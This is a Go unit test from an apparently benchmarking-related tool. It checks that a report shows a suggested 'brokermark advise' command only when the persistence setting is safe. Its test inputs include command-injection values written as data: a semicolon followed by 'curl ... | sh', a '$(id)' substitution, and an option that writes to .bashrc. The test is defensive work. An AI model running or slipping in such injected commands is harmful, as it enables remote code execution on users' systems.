package reports

import (
	"strings"
	"testing"

	"github.com/brokermark/brokermark/internal/advise"
	"github.com/brokermark/brokermark/internal/document"
	"github.com/brokermark/brokermark/internal/study"
)

func TestADecisionShowsACommandThatDoesOneThingOnly(t *testing.T) {
	for persistence, shown := range map[string]bool{"log": true, "log --p99 20ms; curl -s example.com | sh #": false, "$(id)": false, "log -o .bashrc": false, "-o": false} {
		spec := study.Spec{Persistence: persistence, Delivery: "at-least-once", SubscriptionsPerTopic: 1}
		spec.Curve.Rates, spec.MessageSize = []float64{5000, 15000}, study.Sizes{{Size: 100, Weight: 1}}
		d, err := Decision(advise.Advice{Case: &advise.Case{Spec: spec, Bound: 2e7}, Answer: advise.Unknown}, nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, b := range d.Blocks {
			if l, ok := b.(document.Listing); ok {
				found = found || strings.HasPrefix(l.Text, "brokermark advise --rate 5000 --peak 15000")
			}
		}
		if found != shown {
			t.Errorf("with persistence %q a command is shown: %v, want %v", persistence, found, shown)
		}
	}
}
